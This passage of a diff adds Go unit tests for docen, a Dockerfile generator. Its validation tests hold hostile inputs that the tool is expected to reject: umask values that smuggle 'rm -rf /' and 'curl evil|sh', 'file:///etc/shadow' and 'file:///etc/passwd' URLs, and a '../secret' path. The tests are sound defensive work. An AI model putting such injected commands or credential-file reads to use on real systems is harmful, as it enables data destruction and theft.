+			d:       New().SetArtifactOnly(true).SetArtifactPath("out"),
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.wantErr {
+				if _, err := tt.d.render(); err == nil {
+					t.Errorf("render() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return
+			}
+			got := generateDockerfile(t, tt.d)
+			if !strings.HasSuffix(got, tt.want) {
+				t.Errorf("GenerateDockerfile() = %v, want suffix %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_SetUmask(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		want    []string
+		wantN   []string
+		wantErr bool
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			wantN: []string{"umask"},
+		},
+		{
+			name: "umask",
+			d:    New().SetUmask("027").SetAdditionalFolder("static"),
+			want: []string{
+				"RUN umask 027 && mkdir -p /app\nRUN umask 027 && mkdir -p /app/static\n",
+				"RUN umask 027 && CGO_ENABLED=0 GOOS=linux GOARCH=amd64 go build -ldflags=\"-w -s\" -o /app\n",
+			},
+		},
+		{
+			name: "umask with cache mount and minimized layers",
+			d:    New().SetUmask("0077").SetCacheMount(true).SetMinimizeLayers(true),
+			want: []string{
+				"RUN umask 0077 && mkdir -p /app\n",
+				"--mount=type=cache,target=/root/.cache/go-build umask 0077 && CGO_ENABLED=0 ",
+			},
+		},
+		{
+			name:    "invalid umask",
+			d:       New().SetUmask("027; rm -rf /"),
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.wantErr {
+				if _, err := tt.d.render(); err == nil {
+					t.Errorf("render() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return
+			}
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetHeaderComment(t *testing.T) {
+	oldNow := now
+	oldReadBuildInfo := readBuildInfo
+	defer func() {
+		now = oldNow
+		readBuildInfo = oldReadBuildInfo
+	}()
+	now = func() time.Time { return time.Date(2021, 3, 4, 5, 6, 7, 0, time.UTC) }
+	readBuildInfo = func() (*debug.BuildInfo, bool) {
+		return &debug.BuildInfo{
+			Main: debug.Module{Path: "github.com/lobz1g/app"},
+			Deps: []*debug.Module{{Path: "github.com/lobz1g/docen", Version: "v1.2.3"}},
+		}, true
+	}
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  string
+		wantN []string
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			want:  "FROM golang:",
+			wantN: []string{"# Generated by docen"},
+		},
+		{
+			name:  "header",
+			d:     New().SetHeaderComment(true),
+			want:  "# Generated by docen v1.2.3\nFROM golang:",
+			wantN: []string{"2021"},
+		},
+		{
+			name: "header with timestamp",
+			d:    New().SetHeaderComment(true).SetHeaderTimestamp(true),
+			want: "# Generated by docen v1.2.3 at 2021-03-04T05:06:07Z\nFROM golang:",
+		},
+		{
+			name: "header with diagnostics",
+			d:    New().SetHeaderComment(true).SetDiagnostics(true),
+			want: "# Generated by docen v1.2.3\n# docen: package app\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateDockerfile(t, tt.d)
+			if !strings.HasPrefix(got, tt.want) {
+				t.Errorf("GenerateDockerfile() = %v, want prefix %v", got, tt.want)
+			}
+			checkDockerfile(t, got, nil, tt.wantN)
+		})
+	}
+}
+
+func Test_getDocenVersion(t *testing.T) {
+	oldReadBuildInfo := readBuildInfo
+	defer func() {
+		readBuildInfo = oldReadBuildInfo
+	}()
+
+	tests := []struct {
+		name string
+		info *debug.BuildInfo
+		ok   bool
+		want string
+	}{
+		{
+			name: "dependency",
+			info: &debug.BuildInfo{Deps: []*debug.Module{{Path: "github.com/lobz1g/docen", Version: "v1.2.3"}}},
+			ok:   true,
+			want: "v1.2.3",
+		},
+		{
+			name: "main module",
+			info: &debug.BuildInfo{Main: debug.Module{Path: "github.com/lobz1g/docen", Version: "(devel)"}},
+			ok:   true,
+			want: "(devel)",
+		},
+		{
+			name: "no build info",
+			want: "(devel)",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			readBuildInfo = func() (*debug.BuildInfo, bool) { return tt.info, tt.ok }
+			if got := getDocenVersion(); got != tt.want {
+				t.Errorf("getDocenVersion() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_SetBinaryMode(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		want    []string
+		wantN   []string
+		wantErr bool
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			want:  []string{"COPY --from=builder /app /app\n"},
+			wantN: []string{"--chmod"},
+		},
+		{
+			name: "mode",
+			d:    New().SetBinaryMode("0755").SetAdditionalFolder("static"),
+			want: []string{
+				"COPY --from=builder --chmod=0755 /app /app\n",
+				"COPY --from=builder /app/static /app/static\n",
+			},
+		},
+		{
+			name: "artifact",
+			d:    New().SetBinaryMode("755").SetArtifactOnly(true),
+			want: []string{"FROM scratch\nCOPY --from=builder --chmod=755 /app /app\n"},
+		},
+		{
+			name:    "invalid mode",
+			d:       New().SetBinaryMode("u+x"),
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.wantErr {
+				if _, err := tt.d.render(); err == nil {
+					t.Errorf("render() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return
+			}
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_getFolders_dockerignore(t *testing.T) {
+	oldReadDir := readDir
+	oldOpenFile := openFile
+	defer func() {
+		readDir = oldReadDir
+		openFile = oldOpenFile
+	}()
+
+	readDir = func(dirname string) ([]fs.FileInfo, error) {
+		return []fs.FileInfo{
+			&fakeFolder{name: "assets"},
+			&fakeFolder{name: "static"},
+			&fakeFolder{name: "config"},
+		}, nil
+	}
+	openFile = func(name string) (io.ReadCloser, error) {
+		if name != ".dockerignore" {
+			return nil, errors.New("fake error")
+		}
+		return io.NopCloser(strings.NewReader("# fixtures\n/config/\n!static\nass*\n*.md\n")), nil
+	}
+
+	want := additionalInfo{"static": true}
+	if got := New().getFolders(); !reflect.DeepEqual(got, want) {
+		t.Errorf("getFolders() = %v, want %v", got, want)
+	}
+}
+
+func TestDocen_SetNsswitch(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			wantN: []string{"nsswitch.conf"},
+		},
+		{
+			name: "enabled",
+			d:    New().SetNsswitch(true),
+			want: []string{
+				"RUN adduser -D -g '' appuser\nRUN echo 'hosts: files dns' > /etc/nsswitch.conf\n",
+				"COPY --from=builder /etc/passwd /etc/passwd\nCOPY --from=builder /etc/nsswitch.conf /etc/nsswitch.conf\n",
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetGoDebug(t *testing.T) {
+	t.Run("not set", func(t *testing.T) {
+		checkDockerfile(t, generateDockerfile(t, New()), nil, []string{"GODEBUG"})
+	})
+	t.Run("set", func(t *testing.T) {
+		want := []string{"FROM scratch\n", "ENV GODEBUG=netdns=go,http2client=0\n"}
+		checkDockerfile(t, generateDockerfile(t, New().SetGoDebug("netdns=go,http2client=0")), want, nil)
+	})
+}
+
+func Test_getPackageName(t *testing.T) {
+	oldOpenFile := openFile
+	oldGetwd := getwd
+	defer func() {
+		openFile = oldOpenFile
+		getwd = oldGetwd
+	}()
+
+	tests := []struct {
+		name     string
+		openFile func(name string) (io.ReadCloser, error)
+		getwd    func() (string, error)
+		want     string
+	}{
+		{
+			name: "go.mod exists",
+			openFile: func(name string) (io.ReadCloser, error) {
+				return io.NopCloser(strings.NewReader("module github.com/lobz1g/docen")), nil
+			},
+			getwd: func() (string, error) { return "/home/user/project", nil },
+			want:  "docen",
+		},
+		{
+			name:     "go.mod is absent",
+			openFile: func(name string) (io.ReadCloser, error) { return nil, errors.New("fake error") },
+			getwd:    func() (string, error) { return "/home/user/my.project", nil },
+			want:     "my_project",
+		},
+		{
+			name:     "dir name with a space",
+			openFile: func(name string) (io.ReadCloser, error) { return nil, errors.New("fake error") },
+			getwd:    func() (string, error) { return "/home/user/My Project", nil },
+			want:     "My-Project",
+		},
+		{
+			name:     "dir name without safe characters",
+			openFile: func(name string) (io.ReadCloser, error) { return nil, errors.New("fake error") },
+			getwd:    func() (string, error) { return "/home/user/проект", nil },
+			want:     defaultAppName,
+		},
+		{
+			name:     "go.mod is absent and failed get dir",
+			openFile: func(name string) (io.ReadCloser, error) { return nil, errors.New("fake error") },
+			getwd:    func() (string, error) { return "", errors.New("fake error") },
+			want:     defaultAppName,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			openFile = tt.openFile
+			getwd = tt.getwd
+			if got := new(Docen).getPackageName(); got != tt.want {
+				t.Errorf("getPackageName() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_SetNameSanitizer(t *testing.T) {
+	stripMajor := func(raw string) string {
+		parts := strings.Split(raw, "/")
+		if len(parts) > 1 && regexp.MustCompile(`^v[0-9]+$`).MatchString(parts[len(parts)-1]) {
+			parts = parts[:len(parts)-1]
+		}
+		return parts[len(parts)-1]
+	}
+
+	tests := []struct {
+		name     string
+		d        *Docen
+		contents map[string]string
+		want     string
+	}{
+		{
+			name:     "default",
+			d:        New(),
+			contents: map[string]string{"go.mod": "module github.com/lobz1g/server/v2\n"},
+			want:     "v2",
+		},
+		{
+			name:     "custom sanitizer",
+			d:        New().SetNameSanitizer(stripMajor),
+			contents: map[string]string{"go.mod": "module github.com/lobz1g/server/v2\n"},
+			want:     "server",
+		},
+		{
+			name:     "custom sanitizer gets raw module path",
+			d:        New().SetNameSanitizer(func(raw string) string { return strings.ReplaceAll(raw, "/", "-") }),
+			contents: map[string]string{"go.mod": "module \"example.com/app\"\n"},
+			want:     "example.com-app",
+		},
+		{
+			name:     "empty name",
+			d:        New().SetNameSanitizer(func(raw string) string { return "" }),
+			contents: map[string]string{"go.mod": "module github.com/lobz1g/server\n"},
+			want:     defaultAppName,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			runProject(t, fakeProject{contents: tt.contents}, func() error {
+				if got := tt.d.getPackageName(); got != tt.want {
+					t.Errorf("getPackageName() = %v, want %v", got, tt.want)
+				}
+				return nil
+			})
+		})
+	}
+}
+
+func TestDocen_AddAssetStage(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name: "with commands",
+			d: New().
+				AddAssetStage("frontend", "node:20-alpine", [2]string{"/frontend/dist", "/app/static"}).
+				AddAssetStageCommand("frontend", "npm ci").
+				AddAssetStageCommand("frontend", "npm run build"),
+			want: []string{
+				"FROM node:20-alpine as frontend\nWORKDIR /frontend\nCOPY . /frontend\n" +
+					"RUN npm ci\nRUN npm run build\nFROM scratch\n",
+				"COPY --from=frontend /frontend/dist /app/static\n",
+			},
+		},
+		{
+			name: "without commands",
+			d: New().AddAssetStage(
+				"geoip", "example/geoip:latest",
+				[2]string{"/data/city.mmdb", "/app/city.mmdb"},
+				[2]string{"/data/asn.mmdb", "/app/asn.mmdb"},
+			),
+			want: []string{
+				"FROM example/geoip:latest as geoip\nFROM scratch\n",
+				"COPY --from=geoip /data/city.mmdb /app/city.mmdb\nCOPY --from=geoip /data/asn.mmdb /app/asn.mmdb\n",
+			},
+			wantN: []string{"WORKDIR /geoip"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_AddAssetStageCommand(t *testing.T) {
+	if err := New().AddAssetStageCommand("frontend", "npm ci").GenerateDockerfile(); err == nil {
+		t.Errorf("GenerateDockerfile() error = %v, wantErr %v", err, true)
+	}
+}
+
+func TestDocen_SetAppDirOwner(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want []string
+	}{
+		{
+			name: "default",
+			d:    New().SetAdditionalFolder("static"),
+			want: []string{"COPY --from=builder /app/static /app/static\n"},
+		},
+		{
+			name: "owner",
+			d:    New().SetAdditionalFolder("static").SetAppDirOwner(true).SetUser("gopher").SetGroup("gophers"),
+			want: []string{"COPY --from=builder --chown=gopher:gophers /app/static /app/static\n"},
+		},
+		{
+			name: "owner and mode",
+			d:    New().SetAdditionalFolder("static").SetAppDirOwner(true).SetAppDirMode("0750"),
+			want: []string{"COPY --from=builder --chown=appuser --chmod=0750 /app/static /app/static\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, nil)
+		})
+	}
+}
+
+func TestDocen_SetAppDirMode(t *testing.T) {
+	if err := New().SetAppDirMode("u+rwx").GenerateDockerfile(); err == nil {
+		t.Errorf("GenerateDockerfile() error = %v, wantErr %v", err, true)
+	}
+}
+
+func TestDocen_SetDiagnostics(t *testing.T) {
+	t.Run("disabled", func(t *testing.T) {
+		checkDockerfile(t, generateDockerfile(t, New()), nil, []string{"# docen:"})
+	})
+	t.Run("enabled", func(t *testing.T) {
+		d := New().
+			SetDiagnostics(true).
+			SetGoVersion("1.16").
+			SetAdditionalFolder("static").
+			SetAdditionalFile("config/app.yaml")
+		want := "# docen: package app\n" +
+			"# docen: main package ./\n" +
+			"# docen: version 1.16-alpine\n" +
+			"# docen: module mode false\n" +
+			"# docen: vendor mode true\n" +
+			"# docen: folders [config, static]\n" +
+			"# docen: files [config/app.yaml]\n" +
+			"FROM golang:1.16-alpine as builder\n"
+		got := generateDockerfile(t, d, &fakeFolder{name: "vendor"})
+		if !strings.HasPrefix(got, want) {
+			t.Errorf("GenerateDockerfile() = %v, want prefix %v", got, want)
+		}
+	})
+}
+
+func TestDocen_GenerateDockerfile_pathWithSpace(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want []string
+	}{
+		{
+			name: "folder with space",
+			d:    New().SetAdditionalFolder("my folder"),
+			want: []string{
+				"RUN mkdir -p \"/app/my folder\"\n",
+				"COPY --from=builder [\"/app/my folder\", \"/app/my folder\"]\n",
+			},
+		},
+		{
+			name: "file with space",
+			d:    New().SetAdditionalFile("config/my file.yaml").SetMinimizeLayers(true),
+			want: []string{
+				"RUN mkdir -p /app /app/config\n",
+				"COPY --from=builder /app/config /app/config\n",
+				"COPY --from=builder [\"/app/config/my file.yaml\", \"/app/config/my file.yaml\"]\n",
+			},
+		},
+		{
+			name: "folder without space",
+			d:    New().SetAdditionalFolder("static"),
+			want: []string{"RUN mkdir -p /app/static\n", "COPY --from=builder /app/static /app/static\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, nil)
+		})
+	}
+}
+
+func TestDocen_SetIncludeLicense(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "not set",
+			d:     New(),
+			wantN: []string{"LICENSE", "NOTICE"},
+		},
+		{
+			name: "default path",
+			d:    New().SetIncludeLicense(""),
+			want: []string{"COPY --from=builder /app/LICENSE /app/LICENSE\n"},
+		},
+		{
+			name: "custom path",
+			d:    New().SetIncludeLicense("legal/NOTICE"),
+			want: []string{"COPY --from=builder /app/legal/NOTICE /app/legal/NOTICE\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetModMode(t *testing.T) {
+	goMod := []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFile{name: "go.sum"}}
+	vendor := append([]fs.FileInfo{&fakeFolder{name: "vendor"}}, goMod...)
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		files []fs.FileInfo
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "readonly",
+			d:     New().SetModMode("readonly"),
+			files: goMod,
+			want:  []string{"RUN go mod download\n", "go build -mod=readonly -ldflags"},
+		},
+		{
+			name:  "mod",
+			d:     New().SetModMode("mod"),
+			files: goMod,
+			want:  []string{"RUN go mod download\n", "go build -mod=mod -ldflags"},
+		},
+		{
+			name:  "vendor",
+			d:     New().SetModMode("vendor"),
+			files: goMod,
+			want:  []string{"go build -mod=vendor -ldflags"},
+			wantN: []string{"go mod download"},
+		},
+		{
+			name:  "detected vendor",
+			d:     New(),
+			files: vendor,
+			want:  []string{"go build -mod=vendor -ldflags"},
+			wantN: []string{"go mod download"},
+		},
+		{
+			name:  "detected vendor is overridden",
+			d:     New().SetModMode("mod"),
+			files: vendor,
+			want:  []string{"RUN go mod download\n", "go build -mod=mod -ldflags"},
+			wantN: []string{"-mod=vendor"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d, tt.files...), tt.want, tt.wantN)
+		})
+	}
+
+	t.Run("unknown mode", func(t *testing.T) {
+		if err := New().SetModMode("unknown").GenerateDockerfile(); err == nil {
+			t.Errorf("GenerateDockerfile() error = %v, wantErr %v", err, true)
+		}
+	})
+}
+
+func TestDocen_SaveConfig(t *testing.T) {
+	stamp := false
+	d := New().
+		SetGoVersion("1.16").
+		SetPort("3000").
+		SetTimezone("Europe/Moscow").
+		SetTestMode(true).
+		SetBuildVCS(&stamp).
+		SetAdditionalFolder("static").
+		SetAdditionalFile("config/app.yaml").
+		SetArches("amd64", "arm64").
+		SetUser("gopher").
+		SetGroup("gophers").
+		SetModMode("mod").
+		SetBuildParallelism(2).
+		SetIncludeLicense("").
+		SetEnvFromHost("API_KEY", "APP_API_KEY").
+		AddRemoteFile("https://example.com/cacert.pem", "/etc/ssl/cacert.pem").
+		AddAssetStage("web", "node:20", [2]string{"/web/dist", "/app/static"}).
+		AddAssetStageCommand("web", "npm ci").
+		SetApkPackageVersion("git", "2.43.0-r0").
+		SetBuilderEnv(map[string]string{"GOPRIVATE": "example.com"}).
+		SetTestTimeout(time.Minute).
+		SetHTTPHealthcheck("/healthz").
+		SetEntrypointArgs("serve").
+		SetSupplementaryGroups("audio").
+		AddBuilderArtifact("/etc/app.conf", "/app.conf").
+		SetMinimizeLayers(true)
+
+	saved := runProject(t, fakeProject{}, func() error { return d.SaveConfig("docen.json") })["docen.json"]
+
+	var loaded *Docen
+	runProject(t, fakeProject{contents: map[string]string{"docen.json": saved}}, func() (err error) {
+		loaded, err = LoadConfig("docen.json")
+		return err
+	})
+	if !reflect.DeepEqual(loaded.config(), d.config()) {
+		t.Errorf("LoadConfig() = %v, want %v", loaded.config(), d.config())
+	}
+	if got, want := generateDockerfile(t, loaded), generateDockerfile(t, d); got != want {
+		t.Errorf("LoadConfig() Dockerfile = %v, want %v", got, want)
+	}
+
+	resaved := runProject(t, fakeProject{}, func() error { return loaded.SaveConfig("docen.json") })["docen.json"]
+	if resaved != saved {
+		t.Errorf("SaveConfig() = %v, want %v", resaved, saved)
+	}
+
+	for _, want := range []string{`"port": "3000"`, `"buildVCS": false`, `"additionalFiles": [`, `"license": "LICENSE"`} {
+		if !strings.Contains(saved, want) {
+			t.Errorf("SaveConfig() = %v, want to contain %v", saved, want)
+		}
+	}
+}
+
+func TestLoadConfig(t *testing.T) {
+	tests := []struct {
+		name     string
+		contents map[string]string
+	}{
+		{name: "file does not exist", contents: map[string]string{}},
+		{name: "invalid json", contents: map[string]string{"docen.json": "{"}},
+		{name: "invalid umask", contents: map[string]string{"docen.json": `{"umask": "0; curl evil|sh"}`}},
+		{name: "invalid binary mode", contents: map[string]string{"docen.json": `{"binaryMode": "x"}`}},
+		{
+			name:     "invalid remote file url",
+			contents: map[string]string{"docen.json": `{"remoteFiles": [{"url": "file:///etc/shadow", "dst": "/shadow"}]}`},
+		},
+		{
+			name:     "relative remote file destination",
+			contents: map[string]string{"docen.json": `{"remoteFiles": [{"url": "https://example.com/a", "dst": "rel"}]}`},
+		},
+		{name: "invalid symlink", contents: map[string]string{"docen.json": `{"symlinks": ["a/b"]}`}},
+		{name: "relative artifact path", contents: map[string]string{"docen.json": `{"artifactPath": "out"}`}},
+		{name: "invalid mod cache volume", contents: map[string]string{"docen.json": `{"composeModCacheVolume": "-x"}`}},
+		{
+			name:     "relative builder artifact",
+			contents: map[string]string{"docen.json": `{"builderArtifacts": [["lib", "/lib"]]}`},
+		},
+		{name: "invalid additional file", contents: map[string]string{"docen.json": `{"additionalFiles": ["../secret"]}`}},
+		{name: "empty pre-build command", contents: map[string]string{"docen.json": `{"preBuildCommands": [""]}`}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			runProject(t, fakeProject{contents: tt.contents}, func() error {
+				if _, err := LoadConfig("docen.json"); err == nil {
+					t.Errorf("LoadConfig() error = %v, wantErr %v", err, true)
+				}
+				return nil
+			})
+		})
+	}
+}
+
+func TestDocen_SetConfigFile(t *testing.T) {
+	d := New().SetHooks(Hooks{
+		OpenFile: func(name string) (io.ReadCloser, error) {
+			if name != "docen.json" {
+				return nil, errors.New("fake error")
+			}
+			return io.NopCloser(strings.NewReader(`{"port": "3000", "minimalTLS": true, "numericUser": 1000}`)), nil
+		},
+	}).SetConfigFile("docen.json")
+	if d.err != nil {
+		t.Fatalf("SetConfigFile() error = %v", d.err)
+	}
+	if d.port != "3000" || !d.isMinimalTLS || d.uid != 1000 {
+		t.Errorf("SetConfigFile() = %v, want the port, minimal TLS and numeric user", d.config())
+	}
+
+	if err := New().SetConfigFile("missing.json").err; err == nil {
+		t.Errorf("SetConfigFile() error = %v, wantErr %v", err, true)
+	}
+}
+
+func TestDocen_SaveConfig_unsupported(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+	}{
+		{name: "name sanitizer", d: New().SetNameSanitizer(strings.ToLower)},
+		{name: "version extractor", d: New().SetVersionExtractor(strings.TrimSpace)},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			files := map[string]string{}
+			tt.d.SetHooks(Hooks{WriteFile: func(name string, data []byte, perm fs.FileMode) error {
+				files[name] = string(data)
+				return nil
+			}})
+			if err := tt.d.SaveConfig("docen.json"); err == nil {
+				t.Errorf("SaveConfig() error = %v, wantErr %v", err, true)
+			}
+			if len(files) != 0 {
+				t.Errorf("SaveConfig() files = %v, want none", files)
+			}
+		})
+	}
+}
+
+func TestDocen_AddRemoteFile(t *testing.T) {
+	t.Run("valid URL", func(t *testing.T) {
+		d := New().AddRemoteFile("https://example.com/city.mmdb", "/data/city.mmdb")
+		want := []string{
+			"COPY . /app\nADD https://example.com/city.mmdb /data/city.mmdb\n",
+			"COPY --from=builder /data/city.mmdb /data/city.mmdb\n",
+		}
+		checkDockerfile(t, generateDockerfile(t, d), want, nil)
+	})
+
+	for _, u := range []string{"ftp://example.com/city.mmdb", "file:///etc/passwd", "://invalid"} {
+		t.Run(u, func(t *testing.T) {
+			if err := New().AddRemoteFile(u, "/data/city.mmdb").GenerateDockerfile(); err == nil {
+				t.Errorf("GenerateDockerfile() error = %v, wantErr %v", err, true)
+			}
+		})
+	}
+
+	for _, dst := range []string{"data/city.mmdb", "city.mmdb", ""} {
+		t.Run("relative destination "+dst, func(t *testing.T) {
+			if err := New().AddRemoteFile("https://example.com/city.mmdb", dst).GenerateDockerfile(); err == nil {
+				t.Errorf("GenerateDockerfile() error = %v, wantErr %v", err, true)
+			}
+		})
+	}
+}
+
+func TestDocen_AddBuilderArtifact(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		want    []string
+		wantErr bool
+	}{
+		{
+			name: "renamed file",
+			d:    New().AddBuilderArtifact("/app/config.generated.yaml", "/etc/app/config.yaml"),
+			want: []string{"COPY --from=builder /app/config.generated.yaml /etc/app/config.yaml\nUSER appuser\n"},
+		},
+		{
+			name: "several artifacts in order",
+			d: New().
+				AddBuilderArtifact("/app/gen/config.yaml", "/etc/app/config.yaml").
+				AddBuilderArtifact("/app/gen/schema", "/usr/share/app/schema"),
+			want: []string{
+				"COPY --from=builder /app/gen/config.yaml /etc/app/config.yaml\n" +
+					"COPY --from=builder /app/gen/schema /usr/share/app/schema\n",
+			},
+		},
+		{
+			name: "path with space",
+			d:    New().AddBuilderArtifact("/app/gen/my config.yaml", "/etc/app/config.yaml"),
+			want: []string{`COPY --from=builder ["/app/gen/my config.yaml", "/etc/app/config.yaml"]` + "\n"},
+		},
+		{
+			name: "wasm",
+			d:    New().SetArch("wasm").AddBuilderArtifact("/app/gen/config.yaml", "/config.yaml"),
+			want: []string{"COPY --from=builder /app/gen/config.yaml /config.yaml\nENTRYPOINT"},
+		},
+		{
+			name:    "relative builder path",
+			d:       New().AddBuilderArtifact("gen/config.yaml", "/etc/app/config.yaml"),
+			wantErr: true,
+		},
+		{
+			name:    "relative final path",
+			d:       New().AddBuilderArtifact("/app/gen/config.yaml", "config.yaml"),
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.wantErr {
+				if _, err := tt.d.render(); err == nil {
+					t.Errorf("render() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return
+			}
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, nil)
+		})
+	}
+}
+
+func TestDocen_SetCrossCC(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "without cgo",
+			d:     New().SetArch("arm64").SetCrossCC("aarch64-linux-musl-gcc", "aarch64-linux-musl-cross"),
+			want:  []string{"RUN CGO_ENABLED=0 GOOS=linux GOARCH=arm64 go build"},
+			wantN: []string{"CC=", "musl-cross"},
+		},
+		{
+			name: "with cgo",
+			d:    New().SetCGO(true).SetArch("arm64").SetCrossCC("aarch64-linux-musl-gcc", "aarch64-linux-musl-cross"),
+			want: []string{
+				"apk add --no-cache git ca-certificates tzdata gcc musl-dev aarch64-linux-musl-cross &&",
+				"RUN CGO_ENABLED=1 GOOS=linux GOARCH=arm64 CC=aarch64-linux-musl-gcc go build",
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetWritablePaths(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "not set",
+			d:     New(),
+			wantN: []string{"VOLUME", "/volumes"},
+		},
+		{
+			name: "set",
+			d:    New().SetWritablePaths("/app/data", "/tmp", "/var/cache/app"),
+			want: []string{
+				"RUN mkdir -p /volumes/tmp /volumes/app/data /volumes/var/cache/app && chmod 1777 /volumes/tmp && " +
+					"chown appuser /volumes/app/data /volumes/var/cache/app\nFROM scratch\n",
+				"# writable paths for read-only root filesystem\n" +
+					"COPY --from=builder /volumes/ /\n" +
+					"VOLUME [\"/tmp\", \"/app/data\", \"/var/cache/app\"]\nUSER appuser\n",
+			},
+			wantN: []string{"LABEL security.readonly"},
+		},
+		{
+			name: "numeric user",
+			d:    New().SetWritablePaths("/data").SetNumericUser(1000),
+			want: []string{"chown 1000 /volumes/data\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetReadOnlyRootFSHint(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "disabled",
+			d:     New().SetReadOnlyRootFSHint(false),
+			wantN: []string{"LABEL security.readonly", "VOLUME"},
+		},
+		{
+			name: "enabled",
+			d:    New().SetReadOnlyRootFSHint(true),
+			want: []string{
+				"RUN mkdir -p /volumes/tmp && chmod 1777 /volumes/tmp\nFROM scratch\nLABEL security.readonly=true\n",
+				"# writable paths for read-only root filesystem\nCOPY --from=builder /volumes/ /\nVOLUME [\"/tmp\"]\n",
+			},
+		},
+		{
+			name: "enabled with writable paths",
+			d:    New().SetReadOnlyRootFSHint(true).SetWritablePaths("/app/data"),
+			want: []string{
+				"LABEL security.readonly=true\n",
+				"VOLUME [\"/tmp\", \"/app/data\"]\n",
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_checkVersionSkew(t *testing.T) {
+	oldWarn := warn
+	defer func() {
+		warn = oldWarn
 	}()
 
 	tests := []struct {
-		name           string
-		want           string
-		runtimeVersion func() string
+		name     string
+		d        *Docen
+		goMod    string
+		wantWarn bool
+		wantErr  bool
 	}{
 		{
-			name:           "default version",
-			want:           defaultTagVersion,
-			runtimeVersion: func() string { return "without version" },
+			name:  "same version",
+			d:     New().SetGoVersion("1.22"),
+			goMod: "module app\n\ngo 1.22\n",
 		},
 		{
-			name:           "runtime version",
-			want:           "1.13-" + defaultTagVersion,
-			runtimeVersion: func() string { return "go1.13" },
+			name:  "newer builder",
+			d:     New().SetGoVersion("1.22.3"),
+			goMod: "module app\n\ngo 1.21\n",
+		},
+		{
+			name:  "builder without version",
+			d:     &Docen{version: defaultTagVersion},
+			goMod: "module app\n\ngo 1.22\n",
